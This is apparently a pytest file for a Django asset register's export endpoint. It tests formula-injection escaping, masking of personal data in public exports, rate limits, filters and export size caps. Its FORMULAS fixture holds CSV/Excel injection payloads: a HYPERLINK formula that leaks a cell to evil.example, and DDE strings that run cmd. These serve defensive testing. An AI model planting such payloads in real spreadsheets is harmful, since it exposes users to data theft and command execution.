"""Exports (issue 7): formula injection, personal data for the public, rate limits, the map's filters, file names."""

import csv
import html
import io
import zipfile
from decimal import Decimal
from urllib.parse import unquote

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from geo_assets import services as register
from geo_assets.models import Asset
from geo_assets.taxonomy import AssetStatus, AssetType
from importers import vocab
from tests.factories import make_asset, make_user
from tests.importers.conftest import run, run_report

pytestmark = pytest.mark.django_db
EXPORT = reverse("importers:export")
FORMATS = ("csv", "xlsx", "gpkg", "geojson", "kml", "shp")
FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A2,"点击")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def body(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


# ---------------------------------------------------------------- formula injection

def test_cell_protect_rule():
    for char, text in FORMULAS.items():
        assert vocab.cell_protect(text) == "'" + text, char
        assert vocab.cell_unprotect(vocab.cell_protect(text)) == text
    for text in ("\tx", "\r=1", "'=1", "''+2"):
        assert vocab.cell_protect(text) == "'" + text and vocab.cell_unprotect("'" + text) == text
    for value in ("-5", "+3.25", "-1e5", 12.5, -3, "普通文字", "a=b", ""):
        assert vocab.cell_protect(value) == value  # numbers stay numbers, other text is untouched


@pytest.fixture
def formulas(areas, admin_user):
    """One asset per dangerous first character, in the name and in the project, plus a negative number as text."""
    assets = []
    for i, (char, text) in enumerate(FORMULAS.items()):
        assets.append(make_asset(actor=admin_user, name=text, area=areas.west_south, project_name=char + "项目",
                                 implementing_unit="-5", quantity=Decimal("2.5"), year_built=2020 + i))
    return assets


def test_csv_export_neutralises_formulas(formulas, admin_user):
    text = body(logged_in(admin_user).get(EXPORT + "?format=csv")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(r[vocab.NAME] for r in rows) == sorted("'" + t for t in FORMULAS.values())
    assert sorted(r[vocab.PROJECT] for r in rows) == sorted(f"'{c}项目" for c in FORMULAS)
    for r in rows:
        assert r[vocab.IMPLEMENTER] == "-5"  # a negative number stays a number
        assert r[vocab.QUANTITY] == "2.5" and not r[vocab.LON].startswith("'")
    for line in text.splitlines()[1:]:
        assert not any(cell and cell[0] in "=+-@" and not cell.lstrip("+-").replace(".", "").isdigit()
                       for cell in next(csv.reader([line])))


def test_xlsx_export_has_no_live_formula_and_numbers_stay_numbers(formulas, admin_user):
    wb = openpyxl.load_workbook(io.BytesIO(body(logged_in(admin_user).get(EXPORT + "?format=xlsx"))))
    ws = wb.active
    header = [c.value for c in ws[1]]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    names = [row[header.index(vocab.NAME)].value for row in ws.iter_rows(min_row=2)]
    assert sorted(names) == sorted("'" + t for t in FORMULAS.values())
    for row in ws.iter_rows(min_row=2):
        assert isinstance(row[header.index(vocab.QUANTITY)].value, float)
        assert isinstance(row[header.index(vocab.YEAR)].value, int)
        assert isinstance(row[header.index(vocab.LON)].value, float)
        assert row[header.index(vocab.IMPLEMENTER)].value == "-5"



def test_xlsx_export_takes_control_characters_and_cuts_a_text_at_excels_cell_limit(register_small, admin_user):
    """A note may hold what no XML 1.0 text may (written escaped as OOXML says, _xHHHH_, which Excel shows as the
    character) or more than an Excel cell holds (cut at 32,767 characters: the CSV and GIS files keep it whole)."""
    from openpyxl.utils.escape import unescape

    road, well = register_small[:2]
    Asset.objects.filter(pk=road.pk).update(note="铃声\x07与换页\x0c")
    Asset.objects.filter(pk=well.pk).update(note="长" * 40_000)
    wb = openpyxl.load_workbook(io.BytesIO(body(logged_in(admin_user).get(EXPORT + "?format=xlsx"))))
    rows = list(wb.active.iter_rows(values_only=True))
    notes = {row[rows[0].index(vocab.CODE)]: row[rows[0].index(vocab.NOTE)] for row in rows[1:]}
    assert unescape(notes[road.code]) == "铃声\x07与换页\x0c"
    assert notes[well.code] == "长" * 32_767

@pytest.mark.parametrize("fmt,name", [("csv", "out.csv"), ("xlsx", "out.xlsx"), ("gpkg", "out.gpkg")])
def test_protected_cells_round_trip_unchanged(formulas, tmp_path, fmt, name):
    out = tmp_path / name
    assert run("export_assets", "-o", str(out), "--format", fmt)[0] == 0
    code, report = run_report(tmp_path, out)
    assert code == 0, report
    assert (report["unchanged"], report["updated"], report["invalid"]) == (4, 0, 0), report
    assert sorted(Asset.objects.values_list("name", flat=True)) == sorted(FORMULAS.values())


# ---------------------------------------------------------------- personal data

@pytest.fixture
def people(register_small, areas, admin_user):
    """register_small (custodian 王五 with a phone, a note, household owner 张三) plus a household asset named
    after its beneficiary; everything published."""
    cow = make_asset(actor=admin_user, name="李四家养牛", asset_type=AssetType.LIVESTOCK, area=areas.east_north,
                     custodian_person="李四", custodian_phone="0379-66881234", note="李四，身份证 410324199001011234")
    register.asset_owners_set(actor=admin_user, asset=cow, owners=[register.Share("李四", "household", Decimal(100))])
    Asset.objects.update(is_published=True)
    return [*register_small, cow]


SECRETS = ("王五", "13800000000", "含水泵", "张三", "李四", "0379-66881234", "410324199001011234")


def exported_text(response, fmt: str) -> str:
    """Every text a file carries (zip members included), decoded as UTF-8 and as GBK (shapefile DBF), XML character
    references resolved (openpyxl writes non-ASCII text as &#...; when lxml is installed)."""
    data = body(response)
    blobs = [data]
    if fmt in ("xlsx", "shp"):
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            blobs = [zf.read(n) for n in zf.namelist()]
    return html.unescape("\n".join(b.decode("utf-8", "ignore") + b.decode("gbk", "ignore") for b in blobs))


@pytest.mark.parametrize("fmt", FORMATS)
def test_public_export_has_no_personal_data(people, fmt):
    text = exported_text(Client().get(EXPORT + f"?format={fmt}"), fmt)
    assert "东北村饮水井" in text  # the public file is not empty
    for secret in SECRETS:
        assert secret not in text, (fmt, secret)
    assert "王*" in text and "张*" in text  # masked, not dropped


@pytest.mark.parametrize("fmt", FORMATS)
def test_staff_export_keeps_personal_data(people, admin_user, fmt):
    text = exported_text(logged_in(admin_user).get(EXPORT + f"?format={fmt}"), fmt)
    for secret in SECRETS:
        assert secret in text, (fmt, secret)


def test_public_export_columns_are_empty_or_masked(people):
    rows = list(csv.DictReader(io.StringIO(body(Client().get(EXPORT + "?format=csv")).decode("utf-8-sig"))))
    assert all(r[vocab.PHONE] == "" and r[vocab.NOTE] == "" for r in rows)
    assert {r[vocab.CUSTODIAN_PERSON] for r in rows} == {"", "王*", "李*"}
    assert any("张*[受益户]:40" in r[vocab.OWNERS] for r in rows)
    cow = next(r for r in rows if r[vocab.TYPE] == "生物资产")
    assert "李" not in cow[vocab.NAME] and cow[vocab.OWNERS] == "李*:100"


# ---------------------------------------------------------------- rate limits

def test_logged_in_exports_are_rate_limited_per_account(areas, admin_user, settings):
    settings.EXPORT_RATE_USER = "2/hour"
    client = logged_in(admin_user)
    codes = [client.get(EXPORT + "?format=csv").status_code for _ in range(3)]
    assert codes == [200, 200, 429]
    limited = client.get(EXPORT + "?format=csv")
    assert int(limited["Retry-After"]) > 0 and "导出过于频繁" in limited.content.decode()
    other = logged_in(make_user("other", "superuser"))
    assert other.get(EXPORT + "?format=csv").status_code == 200


def test_forged_forwarded_for_does_not_escape_the_anonymous_limit(areas, settings):
    settings.EXPORT_RATE_ANON = "2/hour"
    codes = [Client(HTTP_X_FORWARDED_FOR=f"10.0.0.{i}").get(EXPORT + "?format=csv").status_code for i in range(3)]
    assert codes == [200, 200, 429]


# ---------------------------------------------------------------- the map's filters

@pytest.fixture
def varied(register_small):
    road, well, greenhouse, shop = register_small
    Asset.objects.filter(pk=road.pk).update(year_built=2018, status=AssetStatus.IDLE, last_verified_at=timezone.now())
    Asset.objects.filter(pk=well.pk).update(year_built=2021)
    Asset.objects.filter(pk=greenhouse.pk).update(year_built=2023, last_verified_at=timezone.now())
    return register_small


def exported_names(client, query: str) -> set[str]:
    text = body(client.get(EXPORT + "?format=csv&" + query)).decode("utf-8-sig")
    return {r[vocab.NAME] for r in csv.DictReader(io.StringIO(text))}


@pytest.mark.parametrize("query,names", [
    ("", {"西南村通组道路", "东北村饮水井", "东南村大棚", "西北村电商服务站"}),
    ("township=410324101000", {"西南村通组道路", "西北村电商服务站"}),
    ("village=410324102001", {"东南村大棚"}),
    ("village=410324102001,410324102002", {"东南村大棚", "东北村饮水井"}),
    ("category=operating", {"东南村大棚", "西北村电商服务站"}),
    ("type=water_supply,road", {"东北村饮水井", "西南村通组道路"}),
    ("status=idle", {"西南村通组道路"}),
    ("year_min=2021", {"东北村饮水井", "东南村大棚"}),
    ("year_max=2021", {"西南村通组道路", "东北村饮水井"}),
    ("verified=yes", {"西南村通组道路", "东南村大棚"}),
    ("verified=no", {"东北村饮水井", "西北村电商服务站"}),
    ("township=410324102000&type=greenhouse&year_min=2020&year_max=2024&verified=yes", {"东南村大棚"}),
])
def test_export_takes_every_map_filter(varied, admin_user, query, names):
    assert exported_names(logged_in(admin_user), query) == names


@pytest.mark.parametrize("query,message", [
    ("township=999", "乡镇：代码应为12位数字：999"),
    ("village=41032410x001", "村：代码应为12位数字"),
    ("category=spaceship", "资产类别：“spaceship”无效，请填写以下代码之一或其中文名称：public_welfare（公益性资产）"),
    ("type=飞船", "资产类型：“飞船”无效，请填写以下代码之一或其中文名称：road（"),
    ("status=gone", "资产状态：“gone”无效，请填写以下代码之一或其中文名称：under_construction（"),
    ("year_min=abc", "建成年份（起）：请输入年份"),
    ("year_max=99999", "建成年份（止）：请输入年份"),
    ("verified=maybe", "核查：“maybe”无效，请填写以下之一：yes、"),
])
def test_bad_filter_values_are_400_in_chinese(areas, admin_user, query, message):
    response = logged_in(admin_user).get(EXPORT + "?format=csv&" + query)
    assert response.status_code == 400
    assert message in response.content.decode("utf-8"), response.content.decode()
    assert logged_in(admin_user).get(EXPORT + "?format=doc").status_code == 400


@pytest.mark.parametrize("query,suffix,expected", [
    ("village=410324101001", ".xlsx", "资产台账_西南村.xlsx"),
    ("township=410324102000&type=road", ".xlsx", "资产台账_东镇.xlsx"),
    ("township=410324102000&village=410324102001", ".xlsx", "资产台账_东南村.xlsx"),
    ("village=410324101001,410324101002", ".xlsx", "资产台账.xlsx"),
    ("village=410324101001&format=shp", ".zip", "资产台账_西南村.zip"),
])
def test_file_name_names_the_village_or_township(varied, admin_user, query, suffix, expected):
    fmt = "" if "format=" in query else "format=xlsx&"
    response = logged_in(admin_user).get(EXPORT + "?" + fmt + query)
    disposition = unquote(response["Content-Disposition"])
    assert response.status_code == 200 and expected in disposition and disposition.endswith(suffix)


def test_gpkg_export_is_filtered_too(varied, admin_user, tmp_path):
    import pyogrio

    path = tmp_path / "f.gpkg"
    path.write_bytes(body(logged_in(admin_user).get(EXPORT + "?format=gpkg&type=greenhouse")))
    assert pyogrio.read_dataframe(path)[vocab.NAME].tolist() == ["东南村大棚"]


# ---------------------------------------------------------------- the size of one export

@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_above_the_limit_is_refused_in_chinese_and_a_narrower_one_passes(varied, admin_user, settings,
                                                                                      fmt):
    settings.EXPORT_MAX_ASSETS = 3
    client = logged_in(admin_user)
    refused = client.get(EXPORT + f"?format={fmt}")
    assert refused.status_code == 400 and refused["Content-Type"].startswith("text/plain")
    assert refused.content.decode() == ("本次导出共 4 项资产，超过单次导出的上限 3 项：请用筛选条件按乡镇、村或类型缩小范围，"
                                        "或请系统管理员在服务器上导出。")
    assert "Content-Disposition" not in refused
    narrowed = client.get(EXPORT + f"?format={fmt}&year_min=2020")  # 3 of the 4
    assert narrowed.status_code == 200 and body(narrowed)
    settings.EXPORT_MAX_ASSETS = 4
    assert client.get(EXPORT + f"?format={fmt}").status_code == 200


def test_the_limit_counts_what_the_viewer_may_see_and_the_command_has_none(varied, settings, tmp_path):
    settings.EXPORT_MAX_ASSETS = 1
    Asset.objects.update(is_published=False)
    Asset.objects.filter(pk=varied[0].pk).update(is_published=True)
    assert Client().get(EXPORT + "?format=csv").status_code == 200  # the public sees one asset
    Asset.objects.filter(pk=varied[1].pk).update(is_published=True)
    refused = Client().get(EXPORT + "?format=csv")
    assert refused.status_code == 400 and "本次导出共 2 项资产" in refused.content.decode()
    code, text = run("export_assets", "-o", str(tmp_path / "all.csv"))
    assert code == 0 and "4" in text, text
    with (tmp_path / "all.csv").open(encoding="utf-8-sig") as fh:
        assert len(list(csv.DictReader(fh))) == 4
